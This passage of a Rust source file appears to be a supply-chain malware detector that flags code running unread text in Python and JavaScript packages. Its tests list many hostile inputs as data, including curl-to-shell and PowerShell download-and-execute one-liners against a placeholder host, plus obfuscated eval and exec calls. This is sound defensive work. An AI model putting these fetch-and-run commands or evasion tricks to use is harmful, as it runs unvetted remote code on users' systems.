        calls.push(format!(r"\b(?:{c})\s*\.\s*push\s*\("));
    }
    if let Some(m) = names(&rmodules) {
        calls.push(format!(
            r"\b(?:{m})\s*\.\s*(?:{})\s*\(",
            RUNNER_CALLS.join("|")
        ));
        uses.push(format!(
            r"\b(?:{m})\s*\.\s*(?:{})\s*\(",
            DOCTEST_FILE_RUNNERS.join("|")
        ));
    }
    if let Some(r) = names(&rcalls) {
        calls.push(format!(r#"(?:^|[^\w.'"])(?:{r})\s*\("#));
    }
    if let Some(r) = names(&rfiles) {
        uses.push(format!(r#"(?:^|[^\w.'"])(?:{r})\s*\("#));
    }
    if !calls.is_empty() {
        uses.insert(0, format!("(?P<first>{})", calls.join("|")));
    }
    if uses.is_empty() {
        return None;
    }
    Some(build(&uses.join("|"), true))
}

/// The modules whose functions run source text given to them, as
/// [`runner_aliases`] reads their imports.
const RUNNER_MODULES: &str = "pdb|cProfile|profile|timeit|doctest";

/// Those functions that run their first argument as source (`pdb.run`,
/// `cProfile.runctx`, `timeit.Timer`, ...): a literal one is held text.
const RUNNER_CALLS: [&str; 6] = ["run", "runctx", "runeval", "timeit", "repeat", "Timer"];

/// Doctest's functions that run the examples of a file or an object's
/// docstring, which count whatever their arguments: after `doctest.` in
/// [`pattern`], and imported or under another name in [`runner_aliases`].
const DOCTEST_FILE_RUNNERS: [&str; 4] = [
    "testfile",
    "DocFileSuite",
    "DocFileTest",
    "run_docstring_examples",
];

/// The names a `from M import …` list imports, each with the name it is
/// bound to (`path` → `path`, `exec as run` → `run`), from the list as
/// written after `import` or inside its parentheses. Items that are
/// neither form (a `*`, a stray token) are skipped.
fn imported(list: &[u8]) -> Vec<(String, String)> {
    String::from_utf8_lossy(list)
        .split(',')
        .filter_map(|item| {
            let words: Vec<&str> = item.split_whitespace().collect();
            match words[..] {
                [n] => Some((n.to_string(), n.to_string())),
                [n, "as", alias] => Some((n.to_string(), alias.to_string())),
                _ => None,
            }
        })
        .collect()
}

/// Whether `n` is a Python identifier in ASCII, which goes into a pattern
/// as it stands.
pub(super) fn is_identifier(n: &str) -> bool {
    let mut chars = n.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn py(code: &str) -> Option<usize> {
        first_unread_run("pkg/mod.py", code.as_bytes())
    }

    fn js(code: &str) -> Option<usize> {
        first_unread_run("lib/util.js", code.as_bytes())
    }

    /// A download piped into a shell or an interpreter, in any language's
    /// file but configuration formats.
    #[test]
    fn a_download_piped_into_a_shell_counts() {
        for (path, code) in [
            ("build.rs", "    Command::new(\"sh\").arg(\"-c\").arg(\"curl -fsSL https://x.example/i.sh | sh\");"),
            ("Makefile", "\twget -qO- https://x.example/i | sudo -E bash -s -- --yes"),
            ("ci.sh", "bash <(curl -s https://x.example/bash)"),
            ("install.sh", "sh -c \"$(curl -fsSL https://x.example/i.sh)\""),
            ("setup.py", "os.system('curl https://x.example/get.py | python3 -')"),
            ("install.ps1", "iex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')"),
            ("install.ps1", "Invoke-WebRequest https://x.example/i.ps1 | Invoke-Expression"),
            ("lib/a.js", "execSync('curl -s https://x.example/i | /bin/bash');"),
            ("ci.sh", "curl -fsSL https://x.example/i.sh \\\n  --retry 3 \\\n  | sh"),
            ("setup.py", "subprocess.run('cu' + 'rl -s https://x.example/i ' + '| s' + 'h', shell=True)"),
        ] {
            assert_eq!(first_unread_run(path, code.as_bytes()), Some(1), "{path}: {code}");
        }
        for (path, code) in [
            (
                "ci.sh",
                "curl -s https://x.example/a.json | python -m json.tool",
            ),
            ("ci.sh", "curl -sL https://x.example/a.tgz | tar xz"),
            ("ci.sh", "curl -s https://x.example/sums | shasum -c"),
            ("ci.sh", "# curl https://x.example/i | sh"),
            (
                ".github/workflows/ci.yml",
                "run: curl https://x.example/i | bash",
            ),
            ("docs/install.md", "curl https://sh.rustup.rs -sSf | sh"),
            ("README.rst", "curl https://sh.rustup.rs -sSf | sh"),
        ] {
            assert_eq!(
                first_unread_run(path, code.as_bytes()),
                None,
                "{path}: {code}"
            );
        }
    }

    #[test]
    fn running_text_built_at_run_time_counts() {
        for code in [
            "exec(open(p).read())",
            "x = 1\nexec(code, ns)",
            "eval(expr, globals(), locals())",
            "code = compile(src, '<x>', 'exec')",
            // A code object kept, returned, passed on, or a call that is
            // not the whole statement: only a bare `compile(…)` alone
            // drops what it makes.
            "return compile(src, '<x>', 'exec')",
            "f = types.FunctionType(compile(src, 'x', 'exec').co_consts[0], {})",
            "compile(src, 'x', 'exec').co_consts",
            "compile(src, 'x', 'exec'), run(x)",
            "@compile(src, 'x', 'exec')\ndef f(): pass",
            "builtins.compile(src, 'x', 'exec')",
            "compile(src, 'x', 'exec') if a else b",
            "x = [\ncompile(src, 'x', 'exec')\n]",
            "compile(src, 'x', 'exec')(a)",
            "eval(src)",
            "exec(\n    source,\n)",
            "exec(f'import {name}')",
            "exec('import ' + name)",
            "builtins.exec(s)",
            "execfile('docs/notes.md')",
            "runpy.run_path(p)",
            "from runpy import run_path\nrun_path(here + '/notes.md')",
            "importlib.machinery.SourceFileLoader('n', p).load_module()",
            "s = importlib.util.spec_from_file_location('n', p)",
            "f = exec",
            "list(map(eval, lines))",
            "(0, exec)(s)",
            "getattr(builtins, name)(s)",
            "__builtins__['ex' 'ec'](s)",
            // Folded: the names spelled in pieces.
            "getattr(builtins, 'ex' + 'ec')(s)",
            "timeit.timeit(S, number=1)",
            "cProfile.run(S)",
            "code.InteractiveInterpreter().runsource(S, symbol='exec')",
            "ctypes.pythonapi.PyRun_SimpleString(S.encode())",
            "runpy.run_module(name, run_name='__main__')",
            "imp.load_source('x', p)",
            "m = imp.load_dynamic(name, path)",
            "b = __builtins__.__getattribute__('ev' + 'al')",
            // The builtins' namespace, or the module reached by name
            // (allowed by every rule but the main model before session 34).
            "__builtins__.__dict__[bytes([101, 120, 101, 99]).decode()](s)",
            "vars(__builtins__)['ex' + 'ec'](s)",
            "f = builtins.__dict__.get(name)",
            "f = __builtins__.get(name)",
            "__import__('builtins').exec(s)",
            "__import__('built' + 'ins').exec(s)",
            "importlib.import_module('builtins').eval(s)",
            "sys.modules['builtins'].compile(s, 'x', 'exec')",
            "getattr(__import__('builtins'), name)(s)",
            "from builtins import exec as run",
            "from builtins import (\n    exec as run,\n)\nrun(s)",
            // Bound to another name first.
            "import builtins as _bi\n_bi.exec(s)",
            "import os, builtins as b\nb.eval(s)",
            "b = __builtins__\nb['exec'](s)",
            "b = vars(builtins); f = b[name]",
            "b = builtins.__dict__\nf = b.get(name)",
            "import builtins as b\ngetattr(b, name)(s)",
            "import builtins as b\nf = vars(b)[name]",
            "from builtins import compile as c, exec as x\nx(c(s, 'f', 'exec'))",
            "import builtins as b\nfrom builtins import exec as x\nx(b.compile(s, 'f', 'exec'))",
            // An interactive console fed a line.
            "code.InteractiveConsole().push(line)",
            "c = code.InteractiveConsole()\nc.push(b64decode(s).decode())",
            // Tracers, debuggers, profilers and timers that run source
            // text, and doctest's runners of a file's or a string's
            // examples (allowed by every rule before session 40; the
            // shipped gate allowed tomli with the first).
            "trace.Trace(count=0, trace=0).run(S)",
            "bdb.Bdb().run(S)",
            "pdb.runeval(S)",
            "pdb.Pdb(nosigint=True).runctx(S, g, l)",
            "cProfile.Profile().run(S)",
            "timeit.Timer(S).timeit(1)",
            "c = codeop.compile_command(S, 'x', 'exec')",
            "doctest.testfile('notes.txt', module_relative=True)",
            "suite = doctest.DocFileSuite('README.md')",
            "doctest.run_docstring_examples(f, {})",
            "doctest.DocTestRunner().run(t)",
            // Their modules or functions under other names.
            "import profile as _p\n_p.run(S)",
            "import os, cProfile as cp\ncp.runctx(S, g, l)",
            "from timeit import timeit\ntimeit(S, number=1)",
            "from pdb import (\n    runeval as r,\n)\nr(S)",
            "from timeit import Timer as T\nT(S).timeit()",
            "import doctest as d\nd.testfile(p)",
            "from doctest import testfile\ntestfile('notes.txt')",
            // PyArmor's runtime, and bytecode it runs.
            "from pytransform import pyarmor_runtime",
            "from pyarmor_runtime_000000 import __pyarmor__",
            "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')",
            // Loaders that run what they read.
            "t = pickle.load(open(here + '/_table.pkl', 'rb'))",
            "t = pickle.loads(pkgutil.get_data(__name__, 'x'))",
            "t = joblib.load(path)",
            "t = numpy.load(p, allow_pickle=True)",
            "t = torch.load(p)",
            "t = torch.load(p, weights_only=False)",
            "db = shelve.open(p)",
            "c = yaml.load(text, Loader=yaml.UnsafeLoader)",
            "c = yaml.unsafe_load(text)",
            "f = types.FunctionType(marshal.loads(blob), globals())",
            "c = CodeType(0, 0, 0, 0, 2, 64, raw, (), (), (), '', '', 1, b'')",
            "p = pickle.Unpickler(f).load()",
            "from pickle import loads as _l",
            "from pickle import (\n    loads,\n)",
            "import os, pickle as _p",
            "from yaml import unsafe_load",
            "from torch import load",
            // The same loaders as values, by computed names, or imported
            // by a call.
            "f = pickle.loads\nf(b64decode(blob))",
            "_f = getattr(marshal, 'lo' + 'ads')",
            "r = getattr(pickle, name)",
            "restore = list(map(cPickle.loads, blobs))",
            "return dill.load",
            "m = __import__('pickle')",
            "m = importlib.import_module('pick' + 'le')",
            "m = sys.modules.get(\"marshal\")",
            "m = sys.modules['_pickle']",
            // A round trip too: `pickle.dumps = lambda o: blob` (or a
            // `setattr`, or a write to `vars(pickle)`, in any file of the
            // package) makes it load bytes the text does not show, so
            // tests' `pickle.loads(pickle.dumps(x))` still counts
            // (session 39 tried exempting it: no decision of the shipped
            // gate changed).
            "o = pickle.loads(pickle.dumps(x))",
            // A definition's line that also calls (a default value is
            // evaluated when `def` runs), and calls that only look like
            // definitions.
            "def eval(s): return eval(s)",
            "def run(s): exec(s)",
            "undef eval(s)",
            "x = define eval(s)",
            "def_ = eval(s)",
            "async eval(s)",
            "def eval(x=exec(s)):\n    pass",
            "def eval(\n    x=exec(s),\n):\n    pass",
        ] {
            assert!(py(code).is_some(), "{code:?}");
        }
        for code in [
            "eval(s)",
            "const f = new Function(src);",
            "const f = Function('a', body);",
            "vm.runInThisContext(code);",
            "new vm.Script(code).runInNewContext({});",
            "m._compile(src, file);",
            "const e = eval;",
            "(0, eval)(s)",
            "eval(`${a}`)",
            "\\u0065val(s)",
            "globalThis.eval(s);",
            "import('data:text/javascript,' + encodeURIComponent(s));",
            "const m = await import(name);",
            "new (Object.getPrototypeOf(async function () {}).constructor)(s)();",
            "new Worker(src, { eval: true });",
            "process.dlopen(m, p);",
            // An optional call, and through call, apply or bind (allowed
            // by every rule before session 33).
            "eval?.(s);",
            "eval.call(null, s);",
            "eval.apply(globalThis, [s]);",
            "Function?.(body)();",
            "Function.apply(null, [body])();",
            // `Function` reached otherwise (allowed by every rule but the
            // veto before session 34).
            "[].constructor.constructor(s)();",
            "[]['constr' + 'uctor']['constr' + 'uctor'](s)();",
            "Object.constructor(s)();",
            "const F = String.constructor;",
            "(() => 0).constructor(s)();",
            "Reflect.construct(Function, [s])();",
            "const F = Function;\nF(s)();",
            "const F = Reflect.apply(Function.bind, Function, [null, s]);",
            // The `vm` module's runners under any name (allowed by every
            // rule but the veto before session 40).
            "require('vm').runInThisContext(s);",
            "const { runInThisContext } = require('node:vm');\nrunInThisContext(s);",
            "import('node:vm').then((m) => m.runInNewContext(s, { require }));",
            "const f = compileFunction(body, ['require']);",
        ] {
            assert!(js(code).is_some(), "{code:?}");
        }
        for code in [
            // Bytecode put into a code object, and packages installed at
            // run time through pip's entry point (the shipped gate allowed
            // the last in tomli before session 40).
            "f.__code__ = f.__code__.replace(co_code=bytes.fromhex(h))",
            "from pip._internal.cli.main import main\nmain(['install', name])",
            "pip.main(['install', name])",
        ] {
            assert!(py(code).is_some(), "{code:?}");
        }
        assert!(py("builtins.exec.__call__(s)").is_some());
        // The line named is the call through the alias, not its binding.
        assert_eq!(py("import builtins as b\nx = 1\nb.exec(s)\n"), Some(3));
        // The builtins used as builtins, by any name.
        for code in [
            "import builtins as b\nb.open(p)",
            "import builtins as b\nb.exec('x = 1')",
            "import builtins as b\ngetattr(b, 'print')(s)",
            "b = builtins\nif hasattr(b, 'unicode'): pass",
            "from builtins import open as _open, str",
            "from builtins import exec\n",
            "x = builtins.open\n",
            "setattr(builtins, '_', gettext)",
            "orig = builtins.__import__",
            "vars(builtins).update(extra)",
        ] {
            assert_eq!(py(code), None, "{code:?}");
        }
        for code in [
            "re.eval?.(s);",
            "x.eval.call(null, s);",
            "model.eval.apply(m);",
        ] {
            assert_eq!(js(code), None, "{code:?}");
        }
    }

    /// The search for needles must not skip a file a pattern would match:
    /// every case a pattern matches as written holds a needle.
    #[test]
    fn every_match_holds_a_needle() {
        let cases = [
            (Lang::Python, "exec(open(p).read())"),
            (Lang::Python, "builtins.exec(s)"),
            (Lang::Python, "execfile('x')"),
            (Lang::Python, "run_path(p)"),
            (Lang::Python, "SourcelessFileLoader('n', p)"),
            (Lang::Python, "spec_from_file_location('n', p)"),
            (Lang::Python, "f = exec"),
            (Lang::Python, "g = lambda s: eval"),
            (Lang::Python, "getattr(builtins, name)(s)"),
            (Lang::Python, "__builtins__[k](s)"),
            (Lang::Python, "vars()['__builtins__']"),
            (Lang::Python, "pdb.run(s)"),
            (Lang::Python, "cProfile.runctx(s, g, l)"),
            (Lang::Python, "timeit.repeat(s)"),
            (Lang::Python, "i.runcode(c)"),
            (Lang::Python, "PyRun_String(s)"),
            (Lang::Python, "cPickle.load(f)"),
            (Lang::Python, "x.Unpickler(f)"),
            (Lang::Python, "dill.loads(b)"),
            (Lang::Python, "jsonpickle.decode(s)"),
            (Lang::Python, "pd.read_pickle(p)"),
            (Lang::Python, "joblib.load(p)"),
            (Lang::Python, "np.load(p, allow_pickle=True)"),
            (Lang::Python, "shelve.open(p)"),
            (Lang::Python, "yaml.full_load_all(s)"),
            (Lang::Python, "load(s, Loader=Loader)"),
            (Lang::Python, "marshal.load(f)"),
            (Lang::Python, "CodeType(a)"),
            (Lang::Python, "torch.load(p)"),
            (Lang::Python, "from marshal import loads"),
            (Lang::Python, "f = dill.loads"),
            (Lang::Python, "getattr(marshal, n)"),
            (Lang::Python, "__import__('cPickle')"),
            (Lang::Python, "from shelve import open"),
            (Lang::Python, "import dill as d"),
            (Lang::Python, "from yaml import Loader"),
            (Lang::Python, "runpy.run_module(m)"),
            (Lang::Python, "imp.load_compiled(n, p)"),
            (Lang::Python, "builtins.__getattribute__(n)"),
            (Lang::Python, "exec.__call__(s)"),
            (Lang::Python, "trace.Trace().run(s)"),
            (Lang::Python, "bdb.Bdb().runeval(s)"),
            (Lang::Python, "Pdb().runctx(s, g, l)"),
            (Lang::Python, "cProfile.Profile().run(s)"),
            (Lang::Python, "timeit.Timer(s)"),
            (Lang::Python, "codeop.compile_command(s)"),
            (Lang::Python, "doctest.testfile(p)"),
            (Lang::Python, "DebugRunner().run(t)"),
            (Lang::Python, "c.replace(co_code=b)"),
            (Lang::Python, "pip.main(a)"),
            (Lang::Python, "from pip._internal import main"),
            (Lang::JavaScript, "runInNewContext(s)"),
            (Lang::JavaScript, "eval?.(s)"),
            (Lang::JavaScript, "Function.bind(null, s)"),
            (Lang::JavaScript, "process.dlopen(m, p)"),
            (Lang::JavaScript, "eval(s)"),
            (Lang::JavaScript, "Function(a, b)"),
            (Lang::JavaScript, "vm.runInNewContext(s)"),
            (Lang::JavaScript, "new Script(s)"),
            (Lang::JavaScript, "m._compile(s, f)"),
            (Lang::JavaScript, "return eval;"),
            (Lang::JavaScript, "window.eval(s)"),
            (Lang::JavaScript, "import(m)"),
            (Lang::JavaScript, "}).constructor"),
            (Lang::JavaScript, "{ eval: true }"),
        ];
        for (lang, case) in cases {
            assert!(pattern(lang).is_match(case.as_bytes()), "{case:?}");
            assert!(needles(lang).is_match(case.as_bytes()), "{case:?}");
        }
        // The same for the builtins' other ways and their words.
        for case in [
            "__builtins__.__dict__[n](s)",
            "vars(__builtins__)[n](s)",
            "__builtins__.get(n)",
            "__import__('builtins').exec(s)",
            "sys.modules['builtins'].eval(s)",
            "getattr(importlib.import_module('builtins'), n)",
            "from builtins import exec as run",
            "InteractiveConsole(ns).push(s)",
        ] {
            assert!(builtins_pattern().is_match(case.as_bytes()), "{case:?}");
            assert!(
                BUILTINS_WORDS
                    .iter()
                    .any(|w| memchr::memmem::find(case.as_bytes(), w).is_some()),
                "{case:?}"
            );
        }
    }

    #[test]
    fn literal_code_methods_and_comments_do_not_count() {
        for code in [
            "exec('x = 1')",
            "exec('x = 1', ns)",
            "exec(r'x = 1' 'y = 2')",
            "exec(\"\"\"x = 1\"\"\")",
            "pattern = re.compile(r'[0-9]+')",
            "model.eval()",
            "# exec(open(p).read())",
            "def evaluate(x):\n    return x",
            "executor = ThreadPoolExecutor()",
            "exec()",
            "timeit.timeit('x = 1', number=10)",
            "t = torch.load(p, weights_only=True)",
            "a = numpy.load(p)",
            "c = yaml.safe_load(text)",
            "c = yaml.load(text, Loader=yaml.SafeLoader)",
            "s = pickle.dumps(obj)",
            "from pickle import dumps, HIGHEST_PROTOCOL",
            "from yaml import SafeLoader, safe_load",
            "import pickle",
            "dump = pickle.dumps",
            "p = getattr(pickle, 'HIGHEST_PROTOCOL', 2)",
            "m = importlib.import_module('json')",
            "unpickle = pickle_loads",
            "f = types.FunctionType(g.__code__, globals())",
            "    >>> new = pickle.loads(p)",
            // A compile whose code object its statement drops (packaging's
            // syntax check of a licence expression).
            "try:\n    compile(python_expression, \"\", \"eval\")\nexcept SyntaxError:\n    raise",
            "compile(src, 'x', 'exec')  # check\nx = 1; compile(b, 'y', 'eval'); y = 2",
            // Definitions call nothing.
            "def eval(self, expr, *, inplace=False):\n    return expr",
            "    def compile(  # noqa\n        pattern,\n    ):",
            "async def exec(self, source):\n    pass",
            "def\texec(self, source):\n    pass",
            // A module the package names (pip's runner).
            "runpy.run_module('pip', run_name='__main__', alter_sys=True)",
            "code.InteractiveConsole(locals()).interact()",
            // Attributes of a code-like object, not bytecode put in one
            // (twisted's and coverage's).
            "self.co_code = code.co_code",
            "text = s.replace('pip.main', 'x')\nprint(pipeline.main)",
            // Literal source, a callable, or no source at all.
            "timeit.Timer('x = 1').timeit()",
            "pdb.run('main()')",
            "from timeit import timeit\ntimeit('x = 1')",
            "from timeit import default_timer as timer\nt = timer()",
            "t = threading.Timer(5, f)",
            "from cProfile import Profile\np = Profile()\np.runcall(f)",
            "trace.Trace(count=0).runfunc(f)",
            "import pdb as debugger\ndebugger.set_trace()",
            // A module's own doctests are held text.
            "def f():\n    \"\"\"\n    >>> f()\n    \"\"\"\nimport doctest\ndoctest.testmod()",
        ] {
            assert_eq!(py(code), None, "{code:?}");
        }
        for code in [
            "const m = re.exec(str);",
            "eval('1 + 1');",
            "const f = new Function('a', 'b', 'return a + b');",
            "class Function extends Base {}",
            "// eval(s)",
            "/**\n * eval(s) is not used\n */",
            "/* eval(s) */ // eval(t)",
            "const t = `eval(x)`;",
            "const m = await import('./lazy.js');",
            "import x from 'y';",
            "if (typeof f === Function) {}",
            "if (f.constructor === Function) {}",
            "function call(fn: Function): void {}",
            "let x: Array<Function> = [];",
            "props: { onClick: [String, Function] },",
            "const isSimpleType = makeMap('String,Number,Boolean,Function,Symbol,BigInt');",
            "const C = this.constructor;",
            "return new this.constructor(opts);",
            "class A { constructor(x) { this.x = x; } }",
            "let e = new (Object.getPrototypeOf(t)).constructor(t.length);",
            "const v = runInThisContext('1 + 1');",
            "const _ = lodash.runInContext(root);",
        ] {
            assert_eq!(js(code), None, "{code:?}");
        }
        // A `*` line below code multiplies; code follows a closed comment.
        for code in ["const k = 2\n  * eval(s);", "/* a */ eval(s);"] {
            assert!(js(code).is_some(), "{code:?}");
        }
    }

    /// A `>>>` line is a doctest's example, no code, until the file runs
    /// its doctests: then it runs when the module does.
    #[test]
    fn doctest_lines_count_in_a_file_that_runs_its_doctests() {
        let doc = "def f():\n    \"\"\"\n    >>> exec(bytes.fromhex(h))\n    \"\"\"\n";
        assert_eq!(py(doc), None);
        for runner in [
            "import doctest\ndoctest.testmod()",
            "if __name__ == '__main__':\n    doctest.testmod(verbose=True)",
            "def load_tests(loader, tests, ignore):\n    return doctest.DocTestSuite()",
            "from doctest import run_docstring_examples as r\nr(f, {})",
        ] {
            assert_eq!(py(&format!("{doc}{runner}")), Some(3), "{runner:?}");
        }
    }

    #[test]
    fn the_first_line_that_runs_unread_code_is_named() {
        let code = "import os\n\nx = 1\nexec(open(p).read())\nexec(s)\n";
        assert_eq!(py(code), Some(4));
        // A folded line before a line that counts as written.
        let code = "a = 1\ngetattr(builtins, 'ex' + 'ec')(s)\nexec(s)\n";
        assert_eq!(py(code), Some(2));
    }

    #[test]
    fn documents_data_and_other_languages_are_not_read() {
        let code = b"exec(open(p).read())\n";
        for path in [
            "docs/notes.md",
            "README.rst",
            "data/x.json",
            "build.sh",
            "tests/data/x.txt",
        ] {
            assert_eq!(first_unread_run(path, code), None, "{path}");
        }
        assert_eq!(first_unread_run("setup.py", code), Some(1));
        assert_eq!(first_unread_run("pkg-1.0/src/pkg/_re.py", code), Some(1));
        // Only a package's tests or its documentation build run these:
        // read, and set apart for the caller.
        for path in [
            "pkg-1.0/tests/test_x.py",
            "src/test_pkg.py",
            "pkg/conftest.py",
            "docs/conf.py",
            "lib/__tests__/a.js",
            "lib/a.spec.js",
            "test/a.test.js",
        ] {
            assert!(tests_or_docs(path), "{path}");
        }
        assert!(!tests_or_docs("pkg/testing_utils.py"));
        let code = b"eval(s);\n";
        assert_eq!(first_unread_run("lib/a.js", code), Some(1));
    }

    #[test]
    fn code_that_makes_tests_or_docs_importable_is_found() {
        for code in [
            "import sys\nsys.path.insert(0, os.path.join(here, 'tests'))",
            "sys.path.append(d)",
            "sys.path[:0] = [d]",
            "sys.path += [d]",
            "__path__.append(d)",
            "site.addsitedir(d)",
            "__path__ = extend_path(__path__, __name__)",
            "from .tests import _util",
            "from pkg.tests.helpers import load",
            "import docs.conf",
            "m = importlib.import_module('pkg.tests.x')",
            "getattr(sys, 'pa' + 'th').insert(0, d)",
        ] {
            assert!(
                first_opening("pkg/mod.py", code.as_bytes()).is_some(),
                "{code:?}"
            );
        }
        for code in [
            "const h = require('../test/helper');",
            "import h from './__tests__/h.js';",
            "require('./testing/h')();",
            "const d = require(\"./lib/testdata/d.js\");",
            "require('./lib/h.test.js');",
            "module.paths.unshift(path.join(__dirname, 'test', 'fixtures'));",
            "process.env.NODE_PATH = dir; require('module')._initPaths();",
            "process.env['NODE_PATH'] = dir;",
            "require('module').globalPaths.push(dir);",
            "import('./h.spec')",
            "const u = require('./test_utils');",
        ] {
            assert!(
                first_opening("lib/a.js", code.as_bytes()).is_some(),
                "{code:?}"
            );
        }
        assert_eq!(first_opening("x.pth", b"../tests\n"), Some(1));
        for code in [
            "if sys.path == p: pass",
            "p = sys.path[0]",
            "if sys.path[0] == p: pass",
            "import pytest",
            "from numpy.testing import assert_equal",
            "from unittest import mock",
            "# sys.path.insert(0, d)",
        ] {
            assert_eq!(
                first_opening("pkg/mod.py", code.as_bytes()),
                None,
                "{code:?}"
            );
        }
        // Tests opening tests is the test run's business.
        assert_eq!(
            first_opening("tests/conftest.py", b"sys.path.insert(0, d)\n"),
            None
        );
        // Names that only look like a test's, and packages, not paths.
        for code in [
            "require('./latest.js');",
            "require('./contest/x');",
            "require('./testimony')",
            "const paths = module.paths.slice();",
            "if (process.env.NODE_PATH === undefined) {}",
            "const t = require('tape/test');",
            "import x from 'jest/testing/x';",
        ] {
            assert_eq!(first_opening("lib/a.js", code.as_bytes()), None, "{code:?}");
        }
    }

    /// `sys`, its `path` or `site.addsitedir` under another name is the
    /// import path all the same: cachetools that did `import sys as _sys`
    /// then `_sys.path.insert(0, …/tests/data)` and imported a stealer
    /// from there was allowed by every rule before session 33. The line
    /// named is the write, not the import.
    #[test]
    fn writes_to_the_import_path_under_another_name_open_tests() {
        for (code, line) in [
            (
                "import sys as _sys
x = 1
_sys.path.insert(0, d)
",
                3,
            ),
            (
                "import os, sys as s
s.path += [d]
",
                2,
            ),
            (
                "import os as o, sys as s
s.path = [d] + s.path
",
                2,
            ),
            (
                "from sys import path
path.append(d)
",
                2,
            ),
            (
                "from sys import argv, path as p
p[:0] = [d]
",
                2,
            ),
            (
                "from sys import (
    argv,
    path as p,
)
p.extend([d])
",
                5,
            ),
            (
                "from site import addsitedir as add
add(d)
",
                2,
            ),
            (
                "from sys import path as p; p.insert(0, d)
",
                1,
            ),
            (
                "__import__('sys').path.insert(0, d)
",
                1,
            ),
            (
                "sys.modules[\"sys\"].path.append(d)
",
                1,
            ),
        ] {
            assert_eq!(
                first_opening("pkg/__init__.py", code.as_bytes()),
                Some(line),
                "{code:?}"
            );
        }
        for code in [
            // The alias read, not written; a name only like the alias's.
            "import sys as _sys
if _sys.path[0] == d: pass
",
            "import sys as s
ss.path.insert(0, d)
",
            // `path` from elsewhere, or sys's `path` never imported.
            "from os import path
path.append(d)
",
            "from sys import argv
path.append(d)
",
            "from sys import pathsep
pathsep.join(d)
",
            "import sys as s
# s.path.insert(0, d)
",
            "from site import getsitepackages as g
g()
",
        ] {
            assert_eq!(
                first_opening("pkg/__init__.py", code.as_bytes()),
                None,
                "{code:?}"
            );
        }
    }

    /// A manifest or `setup.py` that makes a folder of the tests or docs
    /// the source of what the wheel installs opens them: cachetools whose
    /// `package-dir` was `tests/src` installed a stealer from there, read
    /// as tests, and was allowed by every rule before session 33. Folders
    /// added beside the package, excluded, or only shipped in the sdist do
    /// not; nor does a destination.
    #[test]
    fn a_source_folder_in_tests_or_docs_opens_them() {
        for (path, text, line) in [
            ("pkg/pyproject.toml", "[tool.setuptools]\npackage-dir = {\"\" = \"tests/src\"}\n", 2),
            ("pkg/pyproject.toml", "[tool.setuptools]\npackage-dir = {\"\" = \"src\", \"pkg\" = \"./tests/pkg/\"}\n", 2),
            ("pkg/pyproject.toml", "[tool.setuptools.packages.find]\nwhere = [\n    \"src\",\n    \"docs/src\",\n]\n", 2),
            ("pkg/pyproject.toml", "[tool.hatch.build.targets.wheel]\nsources = {\"tests/src\" = \"\"}\n", 2),
            ("pkg/pyproject.toml", "[tool.hatch.build.targets.wheel]\nsources = [\"test\"]\n", 2),
            ("pkg/pyproject.toml", "[x]\ny = 1\n[tool.hatch.build.targets.wheel.force-include]\n\"LICENSE\" = \"pkg/LICENSE\"\n\"tests/h.py\" = \"pkg/h.py\"\n", 3),
            ("pkg/pyproject.toml", "[tool.poetry]\npackages = [{ include = \"pkg\", from = \"testing\" }]\n", 2),
            ("pkg/pyproject.toml", "[tool.pdm.build]\npackage-dir = \"tests\"\n", 2),
            ("pkg/pyproject.toml", "[tool.maturin]\npython-source = \"tests/python\"\n", 2),
            ("pkg/setup.cfg", "[options]\npackage_dir =\n    =tests/src\n[egg_info]\ntag_build =\n", 2),
            ("pkg/setup.cfg", "[options.packages.find]\nwhere = tests/src\n", 2),
            ("pkg/setup.py", "from setuptools import setup\nsetup(\n    package_dir={'': 'tests/src'},\n)\n", 3),
            ("pkg/setup.py", "setup(packages=find_packages(where='docs/src'))\n", 1),
            ("pkg/setup.py", "setup(packages=find_namespace_packages('tests'))\n", 1),
            // Dotted keys, an inline table, configparser's `:` and case.
            ("pkg/pyproject.toml", "[project]\nname = \"x\"\ntool.setuptools.package-dir = {\"\" = \"tests/src\"}\n", 3),
            ("pkg/pyproject.toml", "[tool]\nsetuptools = { package-dir = { \"\" = \"tests/src\" } }\n", 2),
            ("pkg/setup.cfg", "[options]\nPackage_Dir :\n    =tests/src\n", 2),
            ("pkg/pyproject.toml", "[tool]\nhatch.build.hooks.custom.path = \"tests/hook.py\"\n", 2),
        ] {
            assert_eq!(first_opening(path, text.as_bytes()), Some(line), "{text}");
        }
        for (path, text) in [
            ("pkg/pyproject.toml", "[tool.setuptools]\npackage-dir = {\"\" = \"src\"}\n[tool.setuptools.packages.find]\nwhere = [\"src\"]\nexclude = [\"tests\"]\n"),
            // Shipped beside the package, or in the sdist only.
            ("pkg/pyproject.toml", "[tool.hatch.build.targets.wheel]\npackages = [\"isort\", \"tests\"]\n"),
            ("pkg/pyproject.toml", "[tool.hatch.build.targets.sdist]\ninclude = [\"src\", \"tests\"]\n"),
            // A destination in the docs is not a source.
            ("pkg/pyproject.toml", "[tool.hatch.build.targets.wheel.force-include]\n\"LICENSE\" = \"share/doc/pkg/LICENSE\"\n"),
            ("pkg/pyproject.toml", "[tool.hatch.build.targets.wheel]\nsources = {\"src\" = \"docs\"}\n"),
            // An indented key below an empty value is not its value.
            ("pkg/setup.cfg", "[options]\npackage_dir =\n    =src\n[tool:pytest]\ntestpaths = tests\n"),
            ("pkg/setup.py", "setup(packages=find_packages(exclude=['tests', 'docs']))\n"),
            ("pkg/sub/pyproject.toml", "[tool.setuptools]\npackage-dir = {\"\" = \"tests/src\"}\n"),
        ] {
            assert_eq!(first_opening(path, text.as_bytes()), None, "{text}");
        }
    }

    /// A build backend pip imports from the tests or docs opens them, for
    /// Python only; one from elsewhere, or a pyproject that is not the
    /// root's, does not.
    #[test]
    fn a_build_backend_in_tests_or_docs_opens_them() {
        let toml = |backend: &str, paths: &str| {
            format!("[project]\nname = \"x\"\n\n[build-system]\nrequires = []\nbuild-backend = \"{backend}\"\nbackend-path = {paths}\n")
        };
        for (backend, paths) in [
            ("helper", "[\"tests\"]"),
            ("helper:api", "[\"./tests/\"]"),
            ("tests.helper", "[\".\"]"),
            ("conf", "[\"_b\", \"docs\"]"),
        ] {
            let t = toml(backend, paths);
            assert_eq!(
                first_opening("pkg/pyproject.toml", t.as_bytes()),
                Some(7),
                "{t}"
            );
        }
